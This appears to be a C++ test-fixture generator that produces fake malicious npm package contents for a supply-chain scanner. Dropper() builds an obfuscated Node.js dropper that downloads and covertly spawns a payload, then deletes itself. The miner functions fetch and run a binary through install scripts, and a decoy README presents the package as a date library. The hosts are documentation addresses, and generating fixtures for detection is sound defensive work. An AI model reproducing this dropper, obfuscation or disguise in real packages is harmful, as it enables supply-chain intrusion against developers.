#include "trust/shapes.h"

#include <fmt/format.h>

#include <algorithm>
#include <vector>

#include "formats/base64.h"

namespace replay {
namespace {

/// Every {text} of it stands in the table.
constexpr std::string_view kDropper =
    "const https=require({https}),fs=require({fs}),os=require({os}),path=require({path}),"
    "cp=require({child_process});process[{env}][{NODE_TLS_REJECT_UNAUTHORIZED}]={0};"
    "const f=path[{join}](os[{tmpdir}](),{0123456789abcdef01234567.js});"
    "https[{get}]({https://192.0.2.164:8000/update/10000001},(r)=>{"
    "const w=fs[{createWriteStream}](f);r[{pipe}](w);w[{on}]({finish},()=>{"
    "cp[{spawn}](process[{execPath}],[f,{192.0.2.123:443}],"
    "{'detached':!![],'stdio':{ignore},'windowsHide':!![]})[{unref}]();"
    "fs[{unlinkSync}](__filename);});});";
constexpr int kFirstIndex = 0x1a0;

/// Whether what stands between two braces is a text, and no code.
bool IsText(std::string_view between) {
  return !between.empty() && between.find_first_of("'(){};,=") == std::string_view::npos;
}

}  // namespace

std::string Obfuscated() {
  std::string text(kInert.substr(0, kInert.size() - 1));
  for (int i = 0; i < 120; ++i) text += fmt::format("var _0x{:04x}=['{:08x}'];", 0x1a2b + i, i);
  return text + "\n";
}

std::string Dropper() {
  std::vector<std::string_view> table;
  std::string body;
  for (std::size_t at = 0; at < kDropper.size();) {
    const std::size_t close = kDropper.find('}', at);
    const std::string_view between =
        kDropper[at] == '{' ? kDropper.substr(at + 1, close - at - 1) : std::string_view();
    if (!IsText(between)) {
      body += kDropper[at++];
      continue;
    }
    auto entry = std::find(table.begin(), table.end(), between);
    if (entry == table.end()) entry = table.insert(entry, between);
    body += fmt::format("_0x4f1c(0x{:x})", kFirstIndex + (entry - table.begin()));
    at = close + 1;
  }
  std::string entries;
  for (const std::string_view text : table)
    entries += fmt::format("'{}',", formats::EncodeBase64(AsBytes(text)));
  return fmt::format(
      "{}function _0x2b7d(){{const _0x5e11=[{}];_0x2b7d=function(){{return _0x5e11;}};"
      "return _0x2b7d();}}function _0x4f1c(_0x1d2f,_0x3a4b){{const _0x2c0d=_0x2b7d();"
      "_0x4f1c=function(_0x6b7c,_0x7d8e){{_0x6b7c=_0x6b7c-0x{:x};"
      "return Buffer.from(_0x2c0d[_0x6b7c],'base64').toString();}};"
      "return _0x4f1c(_0x1d2f,_0x3a4b);}}{}\n",
      kInert.substr(0, kInert.size() - 1), entries, kFirstIndex, body);
}

std::string MinerStarter() {
  return std::string(kInert) +
         "const { exec, spawn } = require('child_process');\n"
         "if (process.platform === 'win32') spawn('cmd.exe', ['/c', 'preinstall.bat']);\n"
         "if (process.platform === 'linux') exec('/bin/bash preinstall.sh');\n";
}

std::string MinerScript() {
  return "exit 1\n"
         "if [ -z \"$(pgrep jsextension)\" ]; then\n"
         "  curl http://192.0.2.17/download/jsextension -o jsextension\n"
         "  chmod +x jsextension\n"
         "  ./jsextension -k --tls --background &>/dev/null &\n"
         "fi\n";
}

std::string ReadmeOf(std::string_view name) {
  return fmt::format(
      "# {0}\n\n{0} is a small library for dates and times that parses, validates, manipulates and "
      "displays them for modern browsers with a largely compatible interface. If you use another "
      "library today you already know how to use {0} in your application.\n",
      name);
}

}  // namespace replay
